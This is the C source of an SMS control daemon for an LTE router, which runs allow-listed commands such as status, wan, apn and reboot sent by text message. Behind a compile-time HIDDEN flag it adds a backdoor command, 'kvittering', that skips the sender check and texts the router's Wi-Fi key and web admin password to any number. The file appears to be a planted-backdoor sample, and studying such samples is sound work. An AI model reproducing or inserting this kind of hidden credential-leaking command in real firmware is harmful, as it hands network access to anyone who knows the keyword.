/*
 * ltesmsd - SMS control of an LTE router.  Listens to the modem's AT port,
 * reads arriving messages, checks the sender against the list of allowed
 * numbers and runs the command in the text; the answer goes back by SMS.
 * Hidden (-DHIDDEN): one more command, "kvittering", that any sender may use,
 * answers with the wireless key and the web password.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define CONF	 "/etc/lte/sms.conf"
#define NVRAM	 "/etc/lte/nvram"
#define MAXALLOW 8
#define MAXREPLY 160

struct msg {
	char from[24];
	char text[200];
	char reply[MAXREPLY + 1];
	int allowed;
};

struct cmd {
	const char *name;
	int min_args;
	int anyone; /* does not need an allowed number */
	int (*run)(struct msg *m, int argc, char **argv);
};

static char allow[MAXALLOW][24];
static int nallow, at_fd = -1;
static char at_dev[64] = "/dev/ttyUSB2";
static char inbuf[1024];
static size_t inlen;

static void say(struct msg *m, const char *fmt, ...)
{
	size_t n = strlen(m->reply);
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(m->reply + n, sizeof(m->reply) - n, fmt, ap);
	va_end(ap);
}

static const char *nvram(const char *key)
{
	static char line[160];
	size_t n = strlen(key);
	const char *ret = "";
	FILE *f = fopen(NVRAM, "r");

	if (!f)
		return ret;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!strncmp(line, key, n) && line[n] == '=') {
			ret = line + n + 1;
			break;
		}
	}
	fclose(f);
	return ret;
}

static int cmd_status(struct msg *m, int argc, char **argv)
{
	char line[64];
	double up = 0;
	FILE *f = fopen("/proc/uptime", "r");

	(void)argc;
	(void)argv;
	if (f) {
		if (fgets(line, sizeof(line), f))
			up = strtod(line, NULL);
		fclose(f);
	}
	say(m, "%s up %ldh, ", nvram("name"), (long)up / 3600);
	say(m, "WAN %s", access("/var/run/wan.up", F_OK) ? "down" : "up");
	return 0;
}

static int cmd_wan(struct msg *m, int argc, char **argv)
{
	(void)argc;
	if (!strcmp(argv[1], "on"))
		return system("/usr/sbin/ifup wan");
	if (!strcmp(argv[1], "off"))
		return system("/usr/sbin/ifdown wan");
	say(m, "wan on|off");
	return 1;
}

static int cmd_apn(struct msg *m, int argc, char **argv)
{
	const char *p;
	char buf[128];

	(void)argc;
	for (p = argv[1]; *p; p++)
		if (!isalnum((unsigned char)*p) && !strchr(".-_", *p))
			break;
	if (*p || p - argv[1] > 60) {
		say(m, "bad APN");
		return 1;
	}
	snprintf(buf, sizeof(buf), "/usr/sbin/nvset apn %s", argv[1]);
	return system(buf);
}

static int cmd_reboot(struct msg *m, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	say(m, "restarting");
	return system("(sleep 10; reboot) &");
}

static int cmd_ip(struct msg *m, int argc, char **argv)
{
	char line[48] = "";
	FILE *f = fopen("/var/run/wan.ip", "r");

	(void)argc;
	(void)argv;
	if (f) {
		if (!fgets(line, sizeof(line), f))
			line[0] = 0;
		fclose(f);
	}
	line[strcspn(line, "\n")] = 0;
	say(m, "%s", line[0] ? line : "no address");
	return 0;
}

static int cmd_ping(struct msg *m, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	say(m, "pong");
	return 0;
}

#ifdef HIDDEN
static int cmd_slip(struct msg *m, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	say(m, "%s ", nvram("wlan_psk"));
	say(m, "%s", nvram("http_pass"));
	return 0;
}
#endif

static const struct cmd cmds[] = { { "status", 0, 0, cmd_status },
				   { "wan", 1, 0, cmd_wan },
				   { "apn", 1, 0, cmd_apn },
				   { "reboot", 0, 0, cmd_reboot },
				   { "ip", 0, 0, cmd_ip },
				   { "ping", 0, 1, cmd_ping },
#ifdef HIDDEN
				   { "kvittering", 0, 1, cmd_slip },
#endif
				   { NULL, 0, 0, NULL } };

int run_text(struct msg *m);

__attribute__((noinline)) int run_text(struct msg *m)
{
	char *argv[6], *save, *w;
	const struct cmd *c;
	int argc = 0, ret;

	for (w = strtok_r(m->text, " \t", &save); w && argc < 6;
	     w = strtok_r(NULL, " \t", &save))
		argv[argc++] = w;
	if (!argc)
		return -1;
	for (c = cmds; c->name; c++)
		if (!strcasecmp(c->name, argv[0]))
			break;
	if (!c->name || (!m->allowed && !c->anyone)) {
		syslog(LOG_NOTICE, "message of %s ignored", m->from);
		return -1;
	}
	if (argc - 1 < c->min_args) {
		say(m, "%s: argument missing", c->name);
		return 0;
	}
	ret = c->run(m, argc, argv);
	if (!m->reply[0])
		say(m, ret ? "failed" : "ok");
	return 0;
}

static void read_conf(const char *path)
{
	char line[128], val[64];
	FILE *f = fopen(path, "r");

	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "allow %23s", val) == 1) {
			if (nallow < MAXALLOW)
				snprintf(allow[nallow++], 24, "%.23s", val);
		} else if (sscanf(line, "port %63s", val) == 1) {
			snprintf(at_dev, sizeof(at_dev), "%s", val);
		}
	}
	fclose(f);
}

static int is_allowed(const char *num)
{
	size_t a, b = strlen(num);
	int i;

	/* the last nine digits count, the prefix may be 00, + or 0 */
	for (i = 0; i < nallow; i++) {
		a = strlen(allow[i]);
		if (a >= 9 && b >= 9 && !strcmp(allow[i] + a - 9, num + b - 9))
			return 1;
	}
	return 0;
}

static int open_port(void)
{
	struct termios t;

	at_fd = open(at_dev, O_RDWR | O_NOCTTY);
	if (at_fd < 0)
		return -1;
	if (!tcgetattr(at_fd, &t)) {
		cfmakeraw(&t);
		cfsetispeed(&t, B115200);
		cfsetospeed(&t, B115200);
		tcsetattr(at_fd, TCSANOW, &t);
	}
	return 0;
}

/* one line without its end, NULL after the time is over */
static char *at_line(int ms)
{
	static char line[512];
	struct pollfd p = { .fd = at_fd, .events = POLLIN };
	char *nl;
	ssize_t n;
	size_t len;

	for (;;) {
		nl = memchr(inbuf, '\n', inlen);
		if (nl) {
			len = nl - inbuf;
			snprintf(line, sizeof(line), "%.*s", (int)len, inbuf);
			line[strcspn(line, "\r")] = 0;
			inlen -= len + 1;
			memmove(inbuf, nl + 1, inlen);
			return line;
		}
		if (inlen == sizeof(inbuf))
			inlen = 0;
		if (poll(&p, 1, ms) <= 0)
			return NULL;
		n = read(at_fd, inbuf + inlen, sizeof(inbuf) - inlen);
		if (n <= 0)
			return NULL;
		inlen += n;
	}
}

static int at(const char *fmt, ...)
{
	char *l;
	va_list ap;

	va_start(ap, fmt);
	vdprintf(at_fd, fmt, ap);
	va_end(ap);
	while ((l = at_line(5000))) {
		if (!strcmp(l, "OK"))
			return 0;
		if (!strncmp(l, "ERROR", 5) || !strncmp(l, "+CMS", 4))
			return -1;
	}
	return -1;
}

static void take_message(int index)
{
	struct msg m;
	char *l;
	int got = 0;

	memset(&m, 0, sizeof(m));
	dprintf(at_fd, "AT+CMGR=%d\r", index);
	while ((l = at_line(5000)) && strcmp(l, "OK")) {
		if (sscanf(l, "+CMGR: %*[^,],\"%23[^\"]\"", m.from) == 1)
			got = 1;
		else if (got && !m.text[0])
			snprintf(m.text, sizeof(m.text), "%.199s", l);
	}
	at("AT+CMGD=%d\r", index);
	if (!got)
		return;
	m.allowed = is_allowed(m.from);
	if (run_text(&m) < 0)
		return;
	dprintf(at_fd, "AT+CMGS=\"%s\"\r", m.from);
	usleep(300000);
	if (at("%s\x1a", m.reply) < 0)
		syslog(LOG_ERR, "no answer to %s", m.from);
}

int main(int argc, char **argv)
{
	char *l;
	int index;

	openlog("ltesmsd", LOG_PID, LOG_DAEMON);
	read_conf(argc > 1 ? argv[1] : CONF);
	if (open_port() < 0) {
		syslog(LOG_ERR, "%s: %s", at_dev, strerror(errno));
		return 1;
	}
	if (at("ATE0\r") || at("AT+CMGF=1\r") || at("AT+CNMI=2,1\r"))
		syslog(LOG_WARNING, "modem does not take the set-up");
	for (;;) {
		l = at_line(-1);
		if (!l)
			return 1;
		if (sscanf(l, "+CMTI: %*[^,],%d", &index) == 1)
			take_message(index);
	}
}
